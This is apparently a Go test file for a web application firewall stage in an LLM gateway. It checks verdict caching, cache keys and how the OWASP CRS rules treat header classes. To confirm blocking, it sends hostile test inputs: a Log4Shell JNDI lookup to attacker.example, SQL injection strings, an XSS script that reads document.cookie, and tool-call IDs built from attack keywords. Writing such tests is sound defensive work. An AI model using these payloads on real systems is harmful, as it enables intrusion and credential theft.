// SPDX-License-Identifier: Apache-2.0

package waf

import (
	"fmt"
	"math/rand/v2"
	"net/http"
	"net/netip"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/prometheus/client_golang/prometheus"

	"github.com/bulwarkai/bulwark/internal/config"
	"github.com/bulwarkai/bulwark/internal/llm"
	"github.com/bulwarkai/bulwark/internal/pipeline"
)

func TestVerdictCache(t *testing.T) {
	reg := prometheus.NewRegistry()
	g := newGateway(t, mustStage(t, config.WAF{}, reg))
	hits := func() float64 { return counterValue(g.stage.metrics.verdicts.WithLabelValues("r", "hit")) }
	misses := func() float64 { return counterValue(g.stage.metrics.verdicts.WithLabelValues("r", "miss")) }
	trace := func() map[string]string {
		return map[string]string{
			"Traceparent":      fmt.Sprintf("00-%032x-%016x-01", rand.Uint64(), rand.Uint64()),
			"X-Correlation-Id": fmt.Sprintf("%08x-%04x-4%03x-8%03x-%012x", rand.Uint32(), rand.Uint32()&0xffff, rand.Uint32()&0xfff, rand.Uint32()&0xfff, rand.Uint64()&0xffffffffffff),
		}
	}

	t.Run("another prompt, length and trace id hit the cache", func(t *testing.T) {
		res := g.do(t, newRequest(t, "POST", g.URL+chatPath, chatBody("What is the capital of France?", ""), trace()))
		if res.Status != http.StatusOK || res.Audit == nil || res.Audit.Cached {
			t.Fatalf("first request: status %d audit %+v, want 200 and not cached", res.Status, res.Audit)
		}
		h, m := hits(), misses()
		res = g.do(t, newRequest(t, "POST", g.URL+chatPath, chatBody("Write a haiku about the sea, please. Make it a sad one.", ""), trace()))
		if res.Status != http.StatusOK || !res.Audit.Cached || res.Audit.Action != "allow" {
			t.Fatalf("second request: status %d audit %+v, want 200 from the cache", res.Status, res.Audit)
		}
		if hits() != h+1 || misses() != m {
			t.Errorf("hits %v->%v misses %v->%v, want one more hit", h, hits(), m, misses())
		}
	})

	t.Run("a different inspected input misses and is judged", func(t *testing.T) {
		for _, tc := range []struct {
			name   string
			path   string
			body   string
			header map[string]string
		}{
			{"user agent", chatPath, chatBody("hi", ""), map[string]string{"User-Agent": "${jndi:ldap://attacker.example/a}"}},
			{"query", chatPath + "?id=1%27%20OR%20%271%27%3D%271", chatBody("hi", ""), nil},
			{"json field", chatPath, chatBody("hi", `"user":"<script>alert(document.cookie)</script>"`), nil},
			{"request id outside its grammar", chatPath, chatBody("hi", ""), map[string]string{"X-Request-Id": "${jndi:ldap://attacker.example/a}"}},
		} {
			m := misses()
			first := g.do(t, newRequest(t, "POST", g.URL+tc.path, tc.body, tc.header))
			if first.Status != http.StatusForbidden || first.Audit.Cached || misses() != m+1 {
				t.Fatalf("%s: status %d audit %+v, want a cache miss blocked with 403", tc.name, first.Status, first.Audit)
			}
			again := g.do(t, newRequest(t, "POST", g.URL+tc.path, tc.body, tc.header))
			if again.Status != http.StatusForbidden || !again.Audit.Cached {
				t.Fatalf("%s repeated: status %d audit %+v, want 403 from the cache", tc.name, again.Status, again.Audit)
			}
			if again.Audit.Score != first.Audit.Score || !slices.Equal(again.Audit.Rules, first.Audit.Rules) {
				t.Errorf("%s: cached audit %+v differs from evaluated %+v", tc.name, again.Audit, first.Audit)
			}
			if again.Decision == nil || again.Decision.Rule != RuleCRS || !strings.Contains(again.Decision.Reason, "949110") {
				t.Errorf("%s: cached decision %+v, want the CRS block with its reason", tc.name, again.Decision)
			}
		}
	})

	t.Run("prompt text counts when CRS inspects it", func(t *testing.T) {
		full := newGateway(t, mustStage(t, config.WAF{InspectPrompts: true}, nil))
		if res := full.do(t, newRequest(t, "POST", full.URL+chatPath, chatBody("hello there", ""), nil)); res.Status != http.StatusOK {
			t.Fatalf("benign = %d", res.Status)
		}
		res := full.do(t, newRequest(t, "POST", full.URL+chatPath, chatBody("1' UNION SELECT username, password FROM users--", ""), nil))
		if res.Status != http.StatusForbidden || res.Audit.Cached {
			t.Errorf("sqli prompt under inspectPrompts: status %d audit %+v, want 403 evaluated", res.Status, res.Audit)
		}
	})

	t.Run("detect mode records cached detections", func(t *testing.T) {
		d := newGateway(t, mustStage(t, config.WAF{Mode: "detect"}, nil))
		path := chatPath + "?id=1%27%20OR%20%271%27%3D%271"
		for i := range 2 {
			res := d.do(t, newRequest(t, "POST", d.URL+path, chatBody("hi", ""), nil))
			if res.Status != http.StatusOK || res.Audit.Action != "detect" || res.Audit.Cached != (i == 1) {
				t.Fatalf("request %d: status %d audit %+v, want 200, detect, cached=%v", i, res.Status, res.Audit, i == 1)
			}
			if len(res.Detected) != 1 || res.Detected[0].Rule != RuleCRS {
				t.Errorf("request %d: detected %+v, want one CRS detection", i, res.Detected)
			}
		}
	})
}

func TestVerdictCacheOff(t *testing.T) {
	rules := filepath.Join(t.TempDir(), "rules.conf")
	writeFile(t, rules, `SecRule REQUEST_HEADERS:X-Block "@streq yes" "id:1001,phase:1,deny,status:403,log"`+"\n")
	for name, cfg := range map[string]config.WAF{
		"disabled":         {VerdictCache: config.WAFVerdictCache{Disabled: true}},
		"rulesFile":        {RulesFile: rules},
		"inspectResponses": {InspectResponses: true},
	} {
		t.Run(name, func(t *testing.T) {
			g := newGateway(t, mustStage(t, cfg, nil))
			if g.stage.cache != nil {
				t.Fatal("verdict cache built, want none")
			}
			for range 2 {
				res := g.do(t, newRequest(t, "POST", g.URL+chatPath, chatBody("hi", ""), nil))
				if res.Status != http.StatusOK || res.Audit.Cached {
					t.Fatalf("status %d audit %+v, want 200 evaluated", res.Status, res.Audit)
				}
			}
		})
	}
}

func TestVerdictCacheBounded(t *testing.T) {
	s := mustStage(t, config.WAF{VerdictCache: config.WAFVerdictCache{MaxEntries: 3}}, nil)
	for i := range 10 {
		rc := benchRC([]byte(chatBody("hi", fmt.Sprintf(`"user":"user-%d"`, i))), llm.APIChat)
		if d, err := s.OnRequest(t.Context(), rc); d != nil || err != nil {
			t.Fatalf("request %d: %+v %v", i, d, err)
		}
		if n := s.cache.len(); n > 3 {
			t.Fatalf("after %d distinct requests the cache holds %d entries, want at most 3", i+1, n)
		}
	}
}

// keyOf is the verdict cache key of rc.
func keyOf(t *testing.T, s *Stage, rc *pipeline.RequestContext) [32]byte {
	t.Helper()
	var w keyWriter
	s.feedHeaders(&w, rc)
	if _, _, err := walkJSON(rc.Body, rc.API, s.cfg.InspectPrompts, &w); err != nil {
		t.Fatal(err)
	}
	return w.sum()
}

// TestVerdictKeyCoversInputs changes one input at a time: every change
// CRS can see must change the key; changes within a class must not.
func TestVerdictKeyCoversInputs(t *testing.T) {
	s := &Stage{}
	base := func() *pipeline.RequestContext {
		rc := benchRC([]byte(chatBody("hi", `"user":"u1"`)), llm.APIChat)
		rc.ClientIP = netip.MustParseAddr("10.1.2.3")
		rc.Request.Header.Set("Traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01")
		rc.Request.Header.Set("X-Forwarded-For", "203.0.113.7, 10.0.0.1")
		return rc
	}
	want := keyOf(t, s, base())
	differ := map[string]func(rc *pipeline.RequestContext){
		"method":           func(rc *pipeline.RequestContext) { rc.Request.Method = "PUT" },
		"path":             func(rc *pipeline.RequestContext) { rc.Request.RequestURI = "/v1/chat/completions?x=1" },
		"proto":            func(rc *pipeline.RequestContext) { rc.Request.Proto = "HTTP/2.0" },
		"host":             func(rc *pipeline.RequestContext) { rc.Request.Host = "other.example.com" },
		"header value":     func(rc *pipeline.RequestContext) { rc.Request.Header.Set("Accept", "text/html") },
		"header added":     func(rc *pipeline.RequestContext) { rc.Request.Header.Set("X-Extra", "1") },
		"header removed":   func(rc *pipeline.RequestContext) { rc.Request.Header.Del("Accept") },
		"second value":     func(rc *pipeline.RequestContext) { rc.Request.Header.Add("Accept", "text/html") },
		"content-length 0": func(rc *pipeline.RequestContext) { rc.Request.Header.Set("Content-Length", "0") },
		"content-length leading zero": func(rc *pipeline.RequestContext) {
			rc.Request.Header.Set("Content-Length", "01500")
		},
		"traceparent outside grammar": func(rc *pipeline.RequestContext) { rc.Request.Header.Set("Traceparent", "00-' or 1=1--") },
		"xff outside grammar":         func(rc *pipeline.RequestContext) { rc.Request.Header.Set("X-Forwarded-For", "<script>") },
		"loopback client":             func(rc *pipeline.RequestContext) { rc.ClientIP = netip.MustParseAddr("127.0.0.1") },
		"json value": func(rc *pipeline.RequestContext) {
			rc.Body = []byte(chatBody("hi", `"user":"u2"`))
		},
		"json key": func(rc *pipeline.RequestContext) {
			rc.Body = []byte(chatBody("hi", `"usr":"u1"`))
		},
		"value moved between fields": func(rc *pipeline.RequestContext) {
			rc.Body = []byte(chatBody("hi", `"user":"","u1":""`))
		},
	}
	same := map[string]func(rc *pipeline.RequestContext){
		"prompt text": func(rc *pipeline.RequestContext) {
			rc.Body = []byte(chatBody("something else entirely", `"user":"u1"`))
		},
		"content-length": func(rc *pipeline.RequestContext) { rc.Request.Header.Set("Content-Length", "73") },
		"traceparent": func(rc *pipeline.RequestContext) {
			rc.Request.Header.Set("Traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-00")
		},
		"xff": func(rc *pipeline.RequestContext) {
			rc.Request.Header.Set("X-Forwarded-For", "2001:db8::1,198.51.100.2")
		},
		"client ip":   func(rc *pipeline.RequestContext) { rc.ClientIP = netip.MustParseAddr("192.0.2.1") },
		"remote port": func(rc *pipeline.RequestContext) { rc.Request.RemoteAddr = "192.0.2.1:61000" },
	}
	for name, change := range differ {
		rc := base()
		change(rc)
		if keyOf(t, s, rc) == want {
			t.Errorf("%s: key unchanged, want a different key", name)
		}
	}
	for name, change := range same {
		rc := base()
		change(rc)
		if keyOf(t, s, rc) != want {
			t.Errorf("%s: key changed, want the same class", name)
		}
	}
}

func TestVerdictKeyToolCallIDs(t *testing.T) {
	s := &Stage{}
	key := func(id string) [32]byte {
		body := `{"model":"m","messages":[{"role":"user","content":"weather?"},{"role":"assistant","content":null,"tool_calls":[{"id":"` + id +
			`","type":"function","function":{"name":"get_weather","arguments":"{}"}}]},{"role":"tool","tool_call_id":"` + id + `","content":"sunny"}]}`
		return keyOf(t, s, benchRC([]byte(body), llm.APIChat))
	}
	if key("call_Q2x8YJ0aN1b7cD3eF4gH5iJ6") != key("call_a1B2c3D4e5F6g7H8i9J0k1L2") {
		t.Error("two OpenAI call ids give different keys, want one class")
	}
	for _, pair := range [][2]string{
		{"call_Q2x8YJ0aN1b7cD3eF4gH5iJ6", "call_x' OR 1=1"},
		{"call_Q2x8YJ0aN1b7cD3eF4gH5iJ6", "call_short"},
		{"chatcmpl-tool-0af7651916cd43dd", "chatcmpl-tool-0af7651916cd43de"},
	} {
		if key(pair[0]) == key(pair[1]) {
			t.Errorf("%q and %q give one key, want the second judged on its own", pair[0], pair[1])
		}
	}
}

// TestVerdictClassesAreEquivalent runs members of every header class the
// key folds through CRS at every paranoia level, cache off, and checks that
// CRS cannot tell them apart: same score, same matched rules.
func TestVerdictClassesAreEquivalent(t *testing.T) {
	rng := rand.New(rand.NewPCG(1, 2))
	hex := func(n int) string {
		const digits = "0123456789abcdef"
		b := make([]byte, n)
		for i := range b {
			b[i] = digits[rng.IntN(16)]
		}
		return string(b)
	}
	classes := map[string][]string{
		"Content-Length": {"1", "9", "10", "1500", "65536", "9999999999999999999"},
		"Traceparent": {
			"00-00000000000000000000000000000001-0000000000000001-01",
			"00-deadbeefcafebabefacefeed00decade-0000000000000bad-00",
			"ff-ffffffffffffffffffffffffffffffff-ffffffffffffffff-ff",
		},
		"X-Request-Id": {
			"00000000", "deadbeef", "dead-beef-face-cafe-decade", "0123-4567-89ab-cdef",
			"AAAAAAAA-BBBB-CCCC-DDDD-EEEEEEEEEEEE", strings.Repeat("f", 64),
		},
		"X-Forwarded-For": {
			"127.0.0.1", "::1", "0.0.0.0", "::ffff:169.254.169.254", "fe80::1", "255.255.255.255",
			"1.1.1.1, 10.0.0.1", "2001:db8::dead:beef,203.0.113.9", "1.2.3.4,5.6.7.8,9.10.11.12",
		},
	}
	for i := 0; i < 8; i++ {
		classes["Content-Length"] = append(classes["Content-Length"], fmt.Sprint(1+rng.IntN(1<<30)))
		classes["Traceparent"] = append(classes["Traceparent"], "00-"+hex(32)+"-"+hex(16)+"-01")
		classes["X-Request-Id"] = append(classes["X-Request-Id"], hex(8)+"-"+hex(4)+"-"+hex(4)+"-"+hex(4)+"-"+hex(12))
		classes["X-Forwarded-For"] = append(classes["X-Forwarded-For"], fmt.Sprintf("%d.%d.%d.%d", rng.IntN(256), rng.IntN(256), rng.IntN(256), rng.IntN(256)))
	}
	for name, vals := range classes {
		for _, v := range vals {
			if headerClass(name, v) == "" {
				t.Fatalf("%s: %q is not in its class", name, v)
			}
		}
	}
	levels := []int{1, 2, 3, 4}
	if raceEnabled || testing.Short() {
		levels = []int{1, 4} // CRS is ~10× slower under -race
	}
	// Tool-call ids, adversarial ones first: words CRS looks for, glued to
	// the prefix.
	callIDs := []string{
		"call_abcdefgh", "call_nslookup1", "call_traceroute", "call_SELECTunion1", "call_etcpasswd0",
		"call_javascript1", "call_0x41414141", "call_onerror12", "call_scriptalert", "call_sleep1000",
		"toolu_ifconfigeth0", "toolu_bashcurlwget", "toolu_" + hex(32),
		"fc_execsystem1", "fc_" + hex(48), "call_UNIONALLSELECT", "call_xpcmdshell",
	}
	const alnum = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
	for i := 0; i < 8; i++ {
		b := make([]byte, 24)
		for j := range b {
			b[j] = alnum[rng.IntN(len(alnum))]
		}
		callIDs = append(callIDs, "call_"+string(b))
	}
	for _, v := range callIDs {
		if argClass("json.messages.1.tool_calls.0.id", v) == "" || argClass("json.messages.2.tool_call_id", v) == "" {
			t.Fatalf("%q is not a call id", v)
		}
	}
	toolBody := func(id string) []byte {
		return []byte(`{"model":"m","messages":[{"role":"user","content":"weather?"},{"role":"assistant","content":null,"tool_calls":[{"id":"` + id +
			`","type":"function","function":{"name":"get_weather","arguments":"{}"}}]},{"role":"tool","tool_call_id":"` + id + `","content":"sunny"}]}`)
	}

	body := []byte(chatBody("hi", ""))
	for _, pl := range levels {
		s := mustStage(t, config.WAF{ParanoiaLevel: pl, Mode: "detect", VerdictCache: config.WAFVerdictCache{Disabled: true}}, nil)
		outcome := func(name, v string) string {
			b := body
			if name == "call id" {
				b = toolBody(v)
			}
			rc := benchRC(b, llm.APIChat)
			if name == "call id" {
				if rc.LLM == nil {
					t.Fatalf("tool body with %q does not parse", v)
				}
			} else {
				rc.Request.Header.Set(name, v)
			}
			if name == "Content-Length" {
				rc.Request.ContentLength = int64(len(body))
			}
			if _, err := s.OnRequest(t.Context(), rc); err != nil {
				t.Fatal(err)
			}
			a := rc.AuditFields()[0].Value.(*Audit)
			r := slices.Clone(a.Rules)
			slices.Sort(r)
			return fmt.Sprintf("score %d rules %v detected %d", a.Score, r, len(rc.Detected))
		}
		for name, vals := range classes {
			if name == "call id" {
				continue
			}
			want := outcome(name, vals[0])
			for _, v := range vals[1:] {
				if got := outcome(name, v); got != want {
					t.Errorf("PL%d %s %q: %s; %q: %s", pl, name, vals[0], want, v, got)
				}
			}
		}
		want := outcome("call id", callIDs[0])
		for _, v := range callIDs[1:] {
			if got := outcome("call id", v); got != want {
				t.Errorf("PL%d call id %q: %s; %q: %s", pl, callIDs[0], want, v, got)
			}
		}
	}
}

func BenchmarkVerdictKey(b *testing.B) {
	s := &Stage{}
	rc := benchRC([]byte(chatBody(benchPrompt, "")), llm.APIChat)
	b.ReportAllocs()
	for b.Loop() {
		w := keyWriters.Get().(*keyWriter)
		w.b = w.b[:0]
		s.feedHeaders(w, rc)
		_, _, _ = walkJSON(rc.Body, rc.API, false, w)
		_ = w.sum()
		keyWriters.Put(w)
	}
}
